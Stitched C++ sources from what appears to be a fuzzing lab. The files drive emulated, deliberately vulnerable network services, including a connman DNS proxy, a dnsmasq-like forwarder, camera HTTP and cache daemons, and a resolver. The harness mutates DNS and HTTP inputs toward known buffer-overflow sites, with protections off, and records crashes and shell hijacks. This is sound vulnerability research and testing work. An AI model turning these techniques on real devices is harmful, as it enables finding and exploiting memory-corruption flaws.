  /// build. Not owned; must outlive the mutation calls.
  const std::vector<util::Bytes>* dictionary = nullptr;
};

class Mutator {
 public:
  explicit Mutator(util::Rng rng) noexcept : rng_(rng) {}

  /// Produces one mutant. `splice_donor` (optional second corpus entry)
  /// feeds the crossover operator.
  util::Bytes Mutate(util::ByteSpan input, const MutationHint& hint,
                     util::ByteSpan splice_donor = {});

  /// Mutates `input` into `out`, reusing out's capacity: the zero-alloc
  /// (after warmup) hot-loop variant of Mutate, with the identical RNG
  /// draw sequence and output bytes. `input` and `splice_donor` must not
  /// alias `out`.
  void MutateInto(util::ByteSpan input, const MutationHint& hint,
                  util::ByteSpan splice_donor, util::Bytes& out);

  [[nodiscard]] util::Rng& rng() noexcept { return rng_; }

  // Individual structural operators, exposed for tests. Each returns the
  // mutated buffer (possibly unchanged when the input has no usable
  // structure). `start` is the offset of the first answer's owner name.
  static util::Bytes GrowLabel(util::ByteSpan input, std::size_t start,
                               util::Rng& rng);
  static util::Bytes DuplicateLabelRun(util::ByteSpan input, std::size_t start,
                                       util::Rng& rng);
  static util::Bytes PlantCompressionPointer(util::ByteSpan input,
                                             std::size_t start, util::Rng& rng);
  static util::Bytes BumpAnswerCount(util::ByteSpan input, util::Rng& rng);

 private:
  // In-place cores of the structural operators; the public statics wrap
  // them around a fresh copy. `scratch` buffers a self-insertion (vector
  // ranges must not alias their own insert).
  static void GrowLabelInPlace(util::Bytes& data, std::size_t start,
                               util::Rng& rng);
  static void DuplicateLabelRunInPlace(util::Bytes& data, std::size_t start,
                                       util::Rng& rng, util::Bytes& scratch);
  static void PlantCompressionPointerInPlace(util::Bytes& data,
                                             std::size_t start, util::Rng& rng);
  static void BumpAnswerCountInPlace(util::Bytes& data, util::Rng& rng);

  void DnsOnce(util::Bytes& data, const MutationHint& hint);
  void HavocOnce(util::Bytes& data, const MutationHint& hint,
                 util::ByteSpan splice_donor);

  util::Rng rng_;
  util::Bytes chunk_;  // chunk-duplication / label-run scratch
};

}  // namespace connlab::fuzz
