#include "src/fuzz/target.hpp"

#include <algorithm>
#include <cstdlib>

#include "src/adapt/camstored.hpp"
#include "src/adapt/httpcamd.hpp"
#include "src/adapt/minimasq.hpp"
#include "src/adapt/resolvd.hpp"
#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/dns/message.hpp"
#include "src/dns/name.hpp"
#include <optional>

#include "src/loader/boot.hpp"
#include "src/loader/snapshot.hpp"
#include "src/vm/events.hpp"

namespace connlab::fuzz {

namespace {

// Feature salts keep the semantic features in disjoint bitmap families.
constexpr std::uint32_t kOutcomeSalt = 0x0070c0deu;
constexpr std::uint32_t kSizeSalt = 0x00517e00u;
constexpr std::uint32_t kOverflowSalt = 0x0f10c0deu;
constexpr std::uint32_t kClaimSalt = 0x00c1a100u;

std::uint32_t SizeBucket(std::uint32_t bytes) noexcept {
  std::uint32_t bucket = 0;
  while (bytes != 0) {
    bytes >>= 1;
    ++bucket;
  }
  return bucket;  // floor(log2)+1; 0 for 0
}

void FoldFeatures(CoverageMap& map, std::uint32_t outcome_kind,
                  std::uint32_t bytes_expanded, bool overflow,
                  const std::vector<vm::Event>& events) {
  map.AddFeature(vm::CoverageLocation(kOutcomeSalt ^ outcome_kind));
  map.AddFeature(vm::CoverageLocation(kSizeSalt ^ SizeBucket(bytes_expanded)));
  if (overflow) map.AddFeature(vm::CoverageLocation(kOverflowSalt));
  for (const vm::Event& event : events) {
    map.AddFeature(vm::EventFeature(event.kind));
  }
}

/// Return-address-looking words near the stop sp: the triage frame context.
std::vector<mem::GuestAddr> StackContext(const loader::System& sys) {
  std::vector<mem::GuestAddr> frames;
  const mem::GuestAddr sp = sys.cpu->sp();
  auto words = sys.space.DebugRead(sp, 64);
  if (!words.ok()) return frames;
  const util::Bytes& raw = words.value();
  for (std::size_t i = 0; i + 4 <= raw.size(); i += 4) {
    const std::uint32_t w = static_cast<std::uint32_t>(raw[i]) |
                            (static_cast<std::uint32_t>(raw[i + 1]) << 8) |
                            (static_cast<std::uint32_t>(raw[i + 2]) << 16) |
                            (static_cast<std::uint32_t>(raw[i + 3]) << 24);
    if (w >= sys.layout.text_base &&
        w < sys.layout.text_base + sys.layout.text_size) {
      frames.push_back(w);
      if (frames.size() == 4) break;
    }
  }
  return frames;
}

void FillFromServiceOutcome(const adapt::ServiceOutcome& outcome,
                            ExecResult* result, CoverageMap& map,
                            const std::vector<vm::Event>& events,
                            std::uint32_t bytes_expanded, bool overflow) {
  using Kind = adapt::ServiceOutcome::Kind;
  result->stop_reason = outcome.stop.reason;
  result->pc = outcome.stop.pc;
  result->detail = outcome.detail;
  result->bytes_expanded = bytes_expanded;
  result->overflow = overflow;
  result->write_fault = outcome.stop.fault.has_value() &&
                        outcome.stop.fault->kind == mem::AccessKind::kWrite;
  switch (outcome.kind) {
    case Kind::kOk:
    case Kind::kRejected:
      result->kind = ExecResult::Kind::kBenign;
      break;
    case Kind::kCrash:
      result->kind = ExecResult::Kind::kCrash;
      break;
    case Kind::kShell:
    case Kind::kExec:
      result->kind = ExecResult::Kind::kHijack;
      break;
    case Kind::kAbort:
      result->kind = ExecResult::Kind::kAbort;
      break;
    case Kind::kOther:
      result->kind = ExecResult::Kind::kOther;
      break;
  }
  FoldFeatures(map, static_cast<std::uint32_t>(outcome.kind), bytes_expanded,
               overflow, events);
}

/// Host-side mirror of Minimasq's expansion loop: how many bytes the first
/// answer's name would write into its 512-byte buffer. The adapt services
/// parse host-side (only the epilogue runs on the guest CPU), so this is
/// the size signal the edge map can't provide.
std::uint32_t MinimasqExpansion(util::ByteSpan wire) {
  if (wire.size() < dns::kHeaderSize) return 0;
  const std::uint16_t qdcount =
      static_cast<std::uint16_t>((wire[4] << 8) | wire[5]);
  const std::uint16_t ancount =
      static_cast<std::uint16_t>((wire[6] << 8) | wire[7]);
  std::size_t pos = dns::kHeaderSize;
  for (int q = 0; q < qdcount; ++q) {
    auto name = dns::DecodeName(wire, pos);
    if (!name.ok()) return 0;
    pos += name.value().wire_len + 4;
  }
  std::uint32_t written = 0;
  if (ancount > 0) {
    while (pos < wire.size()) {
      const std::uint8_t len = wire[pos];
      if (len == 0 || (len & dns::kCompressionFlags) != 0) break;
      if (pos + 1 + len > wire.size()) break;
      written += 1 + len;
      pos += 1 + len;
    }
  }
  return written;
}

/// Host-side mirror of HttpCamd's body-length computation: how many body
/// bytes would be memcpy'd into the 256-byte buffer. The claimed
/// Content-Length comes back too — body_len = min(claimed, available)
/// saturates in both directions, so each needs its own coverage feature or
/// the fuzzer can't hold onto "bigger claim" / "bigger body" mutants while
/// it works on the other half.
struct HttpBodyView {
  std::uint32_t body_len = 0;
  std::uint32_t claimed = 0;
};

HttpBodyView HttpcamdBodyView(util::ByteSpan request) {
  HttpBodyView view;
  const std::string text(request.begin(), request.end());
  const std::size_t headers_end = text.find("\r\n\r\n");
  if (headers_end == std::string::npos || text.compare(0, 5, "POST ") != 0) {
    return view;
  }
  const std::size_t clen_pos = text.find("Content-Length:");
  if (clen_pos == std::string::npos || clen_pos > headers_end) return view;
  const std::size_t content_length = static_cast<std::size_t>(
      std::strtoul(text.c_str() + clen_pos + 15, nullptr, 10));
  const std::size_t body_avail = request.size() - (headers_end + 4);
  view.body_len =
      static_cast<std::uint32_t>(std::min(content_length, body_avail));
  view.claimed = static_cast<std::uint32_t>(
      std::min<std::size_t>(content_length, 0xFFFFFFFFu));
  return view;
}

/// Shared boot + overflow-site symbol plumbing for all three services.
class BootedTarget : public FuzzTarget {
 public:
  explicit BootedTarget(const TargetConfig& config) : config_(config) {}

  [[nodiscard]] TargetKind kind() const noexcept override {
    return config_.kind;
  }
  [[nodiscard]] std::uint64_t reboots() const noexcept override {
    return reboots_;
  }

  [[nodiscard]] mem::GuestAddr NormalizePc(mem::GuestAddr pc) const override {
    if (AtOverflowSite(pc)) return copy_entry_;
    return sys_->space.FindSegment(pc) != nullptr ? pc : kWildPc;
  }

  [[nodiscard]] bool AtOverflowSite(mem::GuestAddr pc) const override {
    return (pc >= copy_entry_ && pc <= copy_done_) || pc == get_name_;
  }

 protected:
  /// Full boot path: loader + symbols + service. Implemented per target.
  virtual util::Status Init() = 0;
  /// Recreates the host-side service object against the (restored) System:
  /// every service constructor is a pure computation over the layout (plus,
  /// for DnsProxy, an idempotent host-fn registration), so reconstruction
  /// clears host caches/pending tables exactly as a fresh boot would.
  virtual void ReattachService() = 0;

  util::Status BootSystem() {
    CONNLAB_ASSIGN_OR_RETURN(
        sys_, loader::Boot(config_.arch, loader::ProtectionConfig::None(),
                           config_.boot_seed));
    if (!config_.superblocks) sys_->cpu->set_superblocks_enabled(false);
    if (!config_.block_links) sys_->cpu->set_block_links_enabled(false);
    if (!config_.shared_blocks) {
      sys_->cpu->set_shared_superblocks_enabled(false);
    }
    CONNLAB_ASSIGN_OR_RETURN(get_name_, sys_->Sym("connman.get_name"));
    CONNLAB_ASSIGN_OR_RETURN(copy_entry_, sys_->Sym("connman.copy_label"));
    CONNLAB_ASSIGN_OR_RETURN(copy_done_, sys_->Sym("connman.copy_done"));
    return util::OkStatus();
  }

  /// Called at the end of each target's Init(): freezes the post-boot image
  /// so later reboots are restores instead of loader runs.
  void CaptureSnapshot() {
    if (config_.fast_reset) snapshot_ = loader::TakeSnapshot(*sys_);
  }

  /// Fresh process image after a corrupting execution. Fast path: rewind
  /// guest memory + CPU to the post-boot snapshot and recreate the service;
  /// identical to a full re-Boot because the boot seed is fixed and host
  /// functions are stateless. Falls back to Init() when fast_reset is off
  /// or the restore is refused.
  util::Status Reboot() {
    if (config_.fast_reset && snapshot_.has_value()) {
      if (loader::RestoreSnapshot(*sys_, *snapshot_).ok()) {
        ReattachService();
        return util::OkStatus();
      }
    }
    return Init();
  }

  TargetConfig config_;
  std::unique_ptr<loader::System> sys_;
  std::optional<loader::Snapshot> snapshot_;
  mem::GuestAddr get_name_ = 0;
  mem::GuestAddr copy_entry_ = 0;
  mem::GuestAddr copy_done_ = 0;
  std::uint64_t reboots_ = 0;
};

// ----------------------------------------------------------------- dnsproxy --

class DnsproxyTarget : public BootedTarget {
 public:
  static util::Result<std::unique_ptr<FuzzTarget>> Make(
      const TargetConfig& config) {
    auto target = std::make_unique<DnsproxyTarget>(config);
    CONNLAB_RETURN_IF_ERROR(target->Init());
    return std::unique_ptr<FuzzTarget>(std::move(target));
  }

  explicit DnsproxyTarget(const TargetConfig& config) : BootedTarget(config) {}

  [[nodiscard]] std::string_view name() const noexcept override {
    return "connman::dnsproxy";
  }
  [[nodiscard]] std::size_t fixed_prefix() const noexcept override {
    return dns::kHeaderSize + question_wire_len_;
  }
  [[nodiscard]] bool dns_shaped() const noexcept override { return true; }

  [[nodiscard]] std::vector<util::Bytes> SeedCorpus() const override {
    std::vector<util::Bytes> seeds;
    // One A answer, one AAAA answer, two answers, and a compressed-name
    // answer (pointer back to the question at offset 12) — the benign
    // shapes a real upstream server produces.
    {
      dns::Message r = dns::Message::ResponseFor(query_);
      r.answers.push_back(dns::MakeA(kQName, "93.184.216.34", 300));
      seeds.push_back(dns::Encode(r).value());
    }
    {
      dns::Message r = dns::Message::ResponseFor(query_);
      r.answers.push_back(dns::MakeAAAA(kQName, 60));
      seeds.push_back(dns::Encode(r).value());
    }
    {
      dns::Message r = dns::Message::ResponseFor(query_);
      r.answers.push_back(dns::MakeA(kQName, "10.0.0.1", 60));
      r.answers.push_back(dns::MakeA(kQName, "10.0.0.2", 60));
      seeds.push_back(dns::Encode(r).value());
    }
    {
      util::ByteWriter w;
      w.WriteBytes(util::ByteSpan(seeds[0].data(), fixed_prefix()));
      w.WriteU8(0xC0);  // answer owner name: pointer to the question name
      w.WriteU8(12);
      w.WriteU16BE(1);   // type A
      w.WriteU16BE(1);   // class IN
      w.WriteU32BE(60);  // ttl
      w.WriteU16BE(4);   // rdlength
      w.WriteBytes(util::Bytes{9, 9, 9, 9});
      seeds.push_back(std::move(w).Take());
    }
    return seeds;
  }

  ExecResult Execute(util::ByteSpan input, CoverageMap& map) override {
    using Kind = connman::ProxyOutcome::Kind;
    ExecResult result;
    // Re-register the pending query: HandleServerResponse consumes it on
    // the benign path, and a reboot forgets it.
    if (!proxy_->AcceptClientQuery(query_wire_).ok()) {
      result.kind = ExecResult::Kind::kOther;
      result.detail = "harness: query registration failed";
      return result;
    }
    auto& cpu = *sys_->cpu;
    cpu.AttachCoverage(map.data(), CoverageMap::mask());
    cpu.ResetCoverageEdge();
    const connman::ProxyOutcome outcome = proxy_->HandleServerResponse(input);
    cpu.DetachCoverage();

    result.stop_reason = outcome.stop.reason;
    result.pc = outcome.stop.pc;
    result.bytes_expanded = outcome.name_bytes_written;
    result.overflow = outcome.overflowed;
    result.detail = outcome.detail;
    result.write_fault = outcome.stop.fault.has_value() &&
                         outcome.stop.fault->kind == mem::AccessKind::kWrite;
    bool corrupted = false;
    switch (outcome.kind) {
      case Kind::kDroppedInvalid:
      case Kind::kParseError:
      case Kind::kParsedOk:
        result.kind = ExecResult::Kind::kBenign;
        // A deep non-crashing overflow still trashed the caller stack area.
        corrupted = outcome.overflowed;
        break;
      case Kind::kCrash:
        result.kind = ExecResult::Kind::kCrash;
        corrupted = true;
        break;
      case Kind::kAbort:
      case Kind::kCfiViolation:
        result.kind = ExecResult::Kind::kAbort;
        corrupted = true;
        break;
      case Kind::kShell:
      case Kind::kExec:
        result.kind = ExecResult::Kind::kHijack;
        corrupted = true;
        break;
      case Kind::kOther:
        result.kind = ExecResult::Kind::kOther;
        corrupted = true;
        break;
    }
    FoldFeatures(map, static_cast<std::uint32_t>(outcome.kind),
                 result.bytes_expanded, result.overflow, cpu.events());
    if (result.kind != ExecResult::Kind::kBenign) {
      result.stack = StackContext(*sys_);
    }
    if (corrupted) {
      // Fresh process image, identical layout (fixed boot seed, no ASLR).
      if (Reboot().ok()) ++reboots_;
    }
    return result;
  }

  util::Status Init() override {
    CONNLAB_RETURN_IF_ERROR(BootSystem());
    ReattachService();
    query_ = dns::Message::Query(kQueryId, kQName);
    CONNLAB_ASSIGN_OR_RETURN(query_wire_, dns::Encode(query_));
    util::ByteWriter w;
    CONNLAB_RETURN_IF_ERROR(dns::EncodeName(w, kQName));
    question_wire_len_ = w.size() + 4;  // + qtype + qclass
    CaptureSnapshot();
    return util::OkStatus();
  }

  void ReattachService() override {
    proxy_ = std::make_unique<connman::DnsProxy>(
        *sys_, config_.patched ? connman::Version::k135
                               : connman::Version::k134);
  }

 private:
  static constexpr std::uint16_t kQueryId = 0x4655;  // "FU"
  static constexpr const char* kQName = "fuzz.example.com";

  std::unique_ptr<connman::DnsProxy> proxy_;
  dns::Message query_;
  util::Bytes query_wire_;
  std::size_t question_wire_len_ = 0;
};

// ----------------------------------------------------------------- minimasq --

class MinimasqTarget : public BootedTarget {
 public:
  static util::Result<std::unique_ptr<FuzzTarget>> Make(
      const TargetConfig& config) {
    auto target = std::make_unique<MinimasqTarget>(config);
    CONNLAB_RETURN_IF_ERROR(target->Init());
    return std::unique_ptr<FuzzTarget>(std::move(target));
  }

  explicit MinimasqTarget(const TargetConfig& config) : BootedTarget(config) {}

  [[nodiscard]] std::string_view name() const noexcept override {
    return "adapt::minimasq";
  }
  [[nodiscard]] std::size_t fixed_prefix() const noexcept override {
    // dnsmasq-style checks: only the id + QR flag matter (bytes 0-2), but
    // keeping the whole header + question keeps the question-skip walker
    // happy more often.
    return dns::kHeaderSize + question_wire_len_;
  }
  [[nodiscard]] bool dns_shaped() const noexcept override { return true; }

  [[nodiscard]] std::vector<util::Bytes> SeedCorpus() const override {
    std::vector<util::Bytes> seeds;
    dns::Message r = dns::Message::ResponseFor(query_);
    r.answers.push_back(dns::MakeA(kQName, "172.16.0.9", 120));
    seeds.push_back(dns::Encode(r).value());
    dns::Message r2 = dns::Message::ResponseFor(query_);
    r2.answers.push_back(dns::MakeTXT(kQName, "v=spf1 -all", 60));
    seeds.push_back(dns::Encode(r2).value());
    return seeds;
  }

  ExecResult Execute(util::ByteSpan input, CoverageMap& map) override {
    ExecResult result;
    if (!service_->ForwardQuery(query_wire_).ok()) {
      result.kind = ExecResult::Kind::kOther;
      result.detail = "harness: forward registration failed";
      return result;
    }
    auto& cpu = *sys_->cpu;
    cpu.AttachCoverage(map.data(), CoverageMap::mask());
    cpu.ResetCoverageEdge();
    const adapt::ServiceOutcome outcome = service_->HandleReply(input);
    cpu.DetachCoverage();
    const std::uint32_t expanded = MinimasqExpansion(input);
    FillFromServiceOutcome(outcome, &result, map, cpu.events(), expanded,
                           expanded > adapt::Minimasq::kBufSize);
    if (result.kind != ExecResult::Kind::kBenign) {
      result.stack = StackContext(*sys_);
      if (Reboot().ok()) ++reboots_;
    }
    return result;
  }

  util::Status Init() override {
    CONNLAB_RETURN_IF_ERROR(BootSystem());
    ReattachService();
    query_ = dns::Message::Query(0x6d71, kQName);
    CONNLAB_ASSIGN_OR_RETURN(query_wire_, dns::Encode(query_));
    util::ByteWriter w;
    CONNLAB_RETURN_IF_ERROR(dns::EncodeName(w, kQName));
    question_wire_len_ = w.size() + 4;
    CaptureSnapshot();
    return util::OkStatus();
  }

  void ReattachService() override {
    service_ = std::make_unique<adapt::Minimasq>(*sys_);
  }

 private:
  static constexpr const char* kQName = "cam.firmware.lan";

  std::unique_ptr<adapt::Minimasq> service_;
  dns::Message query_;
  util::Bytes query_wire_;
  std::size_t question_wire_len_ = 0;
};

// ----------------------------------------------------------------- httpcamd --

class HttpcamdTarget : public BootedTarget {
 public:
  static util::Result<std::unique_ptr<FuzzTarget>> Make(
      const TargetConfig& config) {
    auto target = std::make_unique<HttpcamdTarget>(config);
    CONNLAB_RETURN_IF_ERROR(target->Init());
    return std::unique_ptr<FuzzTarget>(std::move(target));
  }

  explicit HttpcamdTarget(const TargetConfig& config) : BootedTarget(config) {}

  [[nodiscard]] std::string_view name() const noexcept override {
    return "adapt::httpcamd";
  }
  [[nodiscard]] std::size_t fixed_prefix() const noexcept override { return 0; }
  [[nodiscard]] bool dns_shaped() const noexcept override { return false; }

  [[nodiscard]] std::vector<util::Bytes> SeedCorpus() const override {
    std::vector<util::Bytes> seeds;
    seeds.push_back(util::BytesOf("GET /status HTTP/1.0\r\n\r\n"));
    const util::Bytes body = util::BytesOf("{\"res\":\"720p\"}");
    seeds.push_back(adapt::HttpCamd::WrapInRequest(body));
    // A config upload near (but under) the 256-byte buffer: realistic for
    // a camera firmware blob, and it parks the corpus next to the cliff.
    util::Bytes config(200, '=');
    const util::Bytes header = util::BytesOf("{\"firmware\":\"");
    config.insert(config.begin(), header.begin(), header.end());
    seeds.push_back(adapt::HttpCamd::WrapInRequest(config));
    return seeds;
  }

  ExecResult Execute(util::ByteSpan input, CoverageMap& map) override {
    ExecResult result;
    auto& cpu = *sys_->cpu;
    cpu.AttachCoverage(map.data(), CoverageMap::mask());
    cpu.ResetCoverageEdge();
    const adapt::ServiceOutcome outcome = service_->HandleRequest(input);
    cpu.DetachCoverage();
    const HttpBodyView view = HttpcamdBodyView(input);
    FillFromServiceOutcome(outcome, &result, map, cpu.events(), view.body_len,
                           view.body_len > adapt::HttpCamd::kBufSize);
    map.AddFeature(vm::CoverageLocation(kClaimSalt ^ SizeBucket(view.claimed)));
    if (result.kind != ExecResult::Kind::kBenign) {
      result.stack = StackContext(*sys_);
      if (Reboot().ok()) ++reboots_;
    }
    return result;
  }

  util::Status Init() override {
    CONNLAB_RETURN_IF_ERROR(BootSystem());
    ReattachService();
    CaptureSnapshot();
    return util::OkStatus();
  }

  void ReattachService() override {
    service_ = std::make_unique<adapt::HttpCamd>(*sys_);
  }

 private:
  std::unique_ptr<adapt::HttpCamd> service_;
};

// ------------------------------------------------------------------ resolvd --

class ResolvdTarget : public BootedTarget {
 public:
  static util::Result<std::unique_ptr<FuzzTarget>> Make(
      const TargetConfig& config) {
    auto target = std::make_unique<ResolvdTarget>(config);
    CONNLAB_RETURN_IF_ERROR(target->Init());
    return std::unique_ptr<FuzzTarget>(std::move(target));
  }

  explicit ResolvdTarget(const TargetConfig& config) : BootedTarget(config) {}

  [[nodiscard]] std::string_view name() const noexcept override {
    return "adapt::resolvd";
  }
  [[nodiscard]] std::size_t fixed_prefix() const noexcept override {
    // Only the header survives untouched: the question *name* is the whole
    // attack surface, so the label/pointer mutators must reach it.
    return dns::kHeaderSize;
  }
  [[nodiscard]] bool dns_shaped() const noexcept override { return true; }

  [[nodiscard]] std::vector<util::Bytes> SeedCorpus() const override {
    std::vector<util::Bytes> seeds;
    seeds.push_back(dns::Encode(dns::Message::Query(0x7264, kQName)).value());
    seeds.push_back(
        dns::Encode(dns::Message::Query(0x7265, "a.deeply.nested.label.chain.lan"))
            .value());
    // A benign *compressed* query: name ends in a pointer to a second name
    // stored after the question — legal, loop-free, and one byte flip away
    // from pointing at itself.
    {
      util::ByteWriter w;
      w.WriteU16BE(0x7266);
      w.WriteU16BE(0x0100);
      w.WriteU16BE(1);
      w.WriteU16BE(0);
      w.WriteU16BE(0);
      w.WriteU16BE(0);
      w.WriteU8(3);
      w.WriteString("cam");
      w.WriteU8(0xC0);  // pointer to the tail name at offset 22
      w.WriteU8(22);
      w.WriteU16BE(1);
      w.WriteU16BE(1);
      w.WriteU8(3);
      w.WriteString("lan");
      w.WriteU8(0);
      seeds.push_back(std::move(w).Take());
    }
    return seeds;
  }

  ExecResult Execute(util::ByteSpan input, CoverageMap& map) override {
    ExecResult result;
    auto& cpu = *sys_->cpu;
    cpu.ClearEvents();
    cpu.AttachCoverage(map.data(), CoverageMap::mask());
    cpu.ResetCoverageEdge();
    const adapt::ServiceOutcome outcome = service_->HandleQuery(input);
    cpu.DetachCoverage();
    FillFromServiceOutcome(outcome, &result, map, cpu.events(),
                           service_->last_expanded(),
                           /*overflow=*/false);
    // The recursion-depth gradient: deeper expansions are new coverage, so
    // the corpus walks toward (and finally off) the stack cliff.
    map.AddFeature(vm::CoverageLocation(kDepthSalt ^
                                        SizeBucket(service_->last_hops())));
    if (result.kind != ExecResult::Kind::kBenign) {
      result.stack = StackContext(*sys_);
      if (Reboot().ok()) ++reboots_;
    }
    return result;
  }

  util::Status Init() override {
    CONNLAB_RETURN_IF_ERROR(BootSystem());
    ReattachService();
    CaptureSnapshot();
    return util::OkStatus();
  }

  void ReattachService() override {
    service_ = std::make_unique<adapt::Resolvd>(*sys_);
  }

 private:
  static constexpr std::uint32_t kDepthSalt = 0x00d3e970u;
  static constexpr const char* kQName = "printer.office.lan";

  std::unique_ptr<adapt::Resolvd> service_;
};

// ---------------------------------------------------------------- camstored --

/// Host-side mirror of Camstored's size handling: the claimed
/// Content-Length vs X-Record-Size mismatch is the bug's precondition, so
/// it gets its own coverage feature (the fuzzer can hold a "sizes
/// disagree" mutant while it works on making the body long enough).
struct CacheSizeView {
  std::uint32_t record_size = 0;
  std::uint32_t content_length = 0;
  bool mismatch = false;
};

CacheSizeView CamstoredSizeView(util::ByteSpan request) {
  CacheSizeView view;
  const std::string text(request.begin(), request.end());
  const std::size_t headers_end = text.find("\r\n\r\n");
  if (headers_end == std::string::npos || text.compare(0, 4, "PUT ") != 0) {
    return view;
  }
  const std::size_t clen = text.find("Content-Length:");
  const std::size_t rsize = text.find("X-Record-Size:");
  if (clen != std::string::npos && clen < headers_end) {
    view.content_length = static_cast<std::uint32_t>(
        std::strtoul(text.c_str() + clen + 15, nullptr, 10));
  }
  if (rsize != std::string::npos && rsize < headers_end) {
    view.record_size = static_cast<std::uint32_t>(
        std::strtoul(text.c_str() + rsize + 14, nullptr, 10));
  }
  view.mismatch = view.record_size != 0 &&
                  view.content_length > view.record_size;
  return view;
}

class CamstoredTarget : public BootedTarget {
 public:
  static util::Result<std::unique_ptr<FuzzTarget>> Make(
      const TargetConfig& config) {
    auto target = std::make_unique<CamstoredTarget>(config);
    CONNLAB_RETURN_IF_ERROR(target->Init());
    return std::unique_ptr<FuzzTarget>(std::move(target));
  }

  explicit CamstoredTarget(const TargetConfig& config) : BootedTarget(config) {}

  [[nodiscard]] std::string_view name() const noexcept override {
    return "adapt::camstored";
  }
  [[nodiscard]] std::size_t fixed_prefix() const noexcept override { return 0; }
  [[nodiscard]] bool dns_shaped() const noexcept override { return false; }
  [[nodiscard]] bool stateful_across_execs() const noexcept override {
    return true;
  }

  [[nodiscard]] std::vector<util::Bytes> SeedCorpus() const override {
    // The benign protocol: store two adjacent records, read, delete one.
    // The daemon keeps heap state *across* executions (until a corrupting
    // run reboots it), so the fuzzer composes multi-request heap shapes
    // for free; the seeds park it next to the size-mismatch cliff.
    std::vector<util::Bytes> seeds;
    seeds.push_back(
        adapt::Camstored::WrapInPut(util::Bytes(56, 'a'), "snap", 64));
    seeds.push_back(
        adapt::Camstored::WrapInPut(util::Bytes(180, 'b'), "clip", 200));
    seeds.push_back(util::BytesOf("GET /cache/snap HTTP/1.0\r\n\r\n"));
    seeds.push_back(adapt::Camstored::WrapInDelete("snap"));
    return seeds;
  }

  ExecResult Execute(util::ByteSpan input, CoverageMap& map) override {
    ExecResult result;
    auto& cpu = *sys_->cpu;
    cpu.ClearEvents();
    cpu.AttachCoverage(map.data(), CoverageMap::mask());
    cpu.ResetCoverageEdge();
    const adapt::ServiceOutcome outcome = service_->HandleRequest(input);
    cpu.DetachCoverage();
    const CacheSizeView view = CamstoredSizeView(input);
    FillFromServiceOutcome(outcome, &result, map, cpu.events(),
                           view.content_length, view.mismatch);
    map.AddFeature(
        vm::CoverageLocation(kRecordSalt ^ SizeBucket(view.record_size)));
    // Allocator-shape features: split/coalesce counts change only when an
    // input exercised a new heap path.
    const heap::GuestHeap::Stats& stats = service_->heap().stats();
    map.AddFeature(vm::CoverageLocation(
        kHeapSalt ^ SizeBucket(static_cast<std::uint32_t>(stats.coalesces))));
    if (result.kind != ExecResult::Kind::kBenign) {
      result.stack = StackContext(*sys_);
      if (Reboot().ok()) ++reboots_;
    }
    return result;
  }

  util::Status Init() override {
    CONNLAB_RETURN_IF_ERROR(BootSystem());
    ReattachService();
    CaptureSnapshot();
    return util::OkStatus();
  }

  void ReattachService() override {
    service_ = std::make_unique<adapt::Camstored>(*sys_);
  }

 private:
  static constexpr std::uint32_t kRecordSalt = 0x00ca54edu;
  static constexpr std::uint32_t kHeapSalt = 0x0077ea90u;

  std::unique_ptr<adapt::Camstored> service_;
};

}  // namespace

std::string_view TargetKindName(TargetKind kind) noexcept {
  switch (kind) {
    case TargetKind::kDnsproxy: return "dnsproxy";
    case TargetKind::kMinimasq: return "minimasq";
    case TargetKind::kHttpcamd: return "httpcamd";
    case TargetKind::kResolvd: return "resolvd";
    case TargetKind::kCamstored: return "camstored";
  }
  return "?";
}

util::Result<TargetKind> ParseTargetKind(std::string_view name) {
  if (name == "dnsproxy") return TargetKind::kDnsproxy;
  if (name == "minimasq") return TargetKind::kMinimasq;
  if (name == "httpcamd") return TargetKind::kHttpcamd;
  if (name == "resolvd") return TargetKind::kResolvd;
  if (name == "camstored") return TargetKind::kCamstored;
  return util::InvalidArgument("unknown fuzz target: " + std::string(name));
}

util::Result<std::unique_ptr<FuzzTarget>> MakeTarget(
    const TargetConfig& config) {
  switch (config.kind) {
    case TargetKind::kDnsproxy: return DnsproxyTarget::Make(config);
    case TargetKind::kMinimasq: return MinimasqTarget::Make(config);
    case TargetKind::kHttpcamd: return HttpcamdTarget::Make(config);
    case TargetKind::kResolvd: return ResolvdTarget::Make(config);
    case TargetKind::kCamstored: return CamstoredTarget::Make(config);
  }
  return util::InvalidArgument("unknown fuzz target kind");
}

}  // namespace connlab::fuzz
