// Corpus: the set of coverage-increasing inputs plus the scheduler that
// decides which one to mutate next and how hard.
//
// Energy assignment follows the coverage signal: entries that opened
// brand-new edges get more mutation rounds than entries that only bumped a
// count class, small entries beat large ones (cheaper executions, denser
// signal), and repeatedly-picked entries decay so the queue keeps moving.
// All scheduling randomness comes from the caller's Rng — a campaign's
// pick sequence is a pure function of the root seed.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/util/bytes.hpp"
#include "src/util/rng.hpp"
#include "src/util/status.hpp"

namespace connlab::fuzz {

struct CorpusEntry {
  util::Bytes data;
  /// Novelty level when admitted: 2 = brand-new edge, 1 = new count class.
  int news = 1;
  /// Execution index at which this entry was found (0 for seeds).
  std::uint64_t found_at = 0;
  /// Times the scheduler has handed this entry out.
  std::uint64_t picks = 0;
};

class Corpus {
 public:
  /// Admits `data` unless a byte-identical entry already exists.
  /// Returns true when added.
  bool Add(util::Bytes data, int news, std::uint64_t found_at);

  [[nodiscard]] std::size_t size() const noexcept { return entries_.size(); }
  [[nodiscard]] bool empty() const noexcept { return entries_.empty(); }
  [[nodiscard]] const CorpusEntry& entry(std::size_t i) const {
    return entries_[i];
  }
  [[nodiscard]] const std::vector<CorpusEntry>& entries() const noexcept {
    return entries_;
  }

  /// Weighted pick; increments the entry's pick count. Requires a
  /// non-empty corpus.
  std::size_t PickIndex(util::Rng& rng);

  /// Mutation rounds to spend on entry `i` this pick (its energy).
  [[nodiscard]] std::uint32_t EnergyFor(std::size_t i) const;

  /// Scheduler weight (exposed for tests).
  [[nodiscard]] std::uint64_t WeightOf(std::size_t i) const;

 private:
  std::vector<CorpusEntry> entries_;
  std::vector<std::uint64_t> hashes_;  // FNV-1a of each entry, dedup
};

// --- On-disk persistence ----------------------------------------------------
//
// A campaign's merged corpus can be written out and re-seeded into the next
// campaign (`FuzzConfig::corpus_path`), so coverage accumulates across runs
// instead of restarting from the built-in seeds every time. The format is a
// line-oriented text file (stable across platforms, diffable in review):
//
//     connlab-corpus v1
//     entry news=<n> found_at=<exec> size=<bytes>
//     <2*size hex digits>
//
// Scheduler state (`picks`) is deliberately not persisted: staleness decay
// is per-campaign, a resumed run starts every entry fresh.

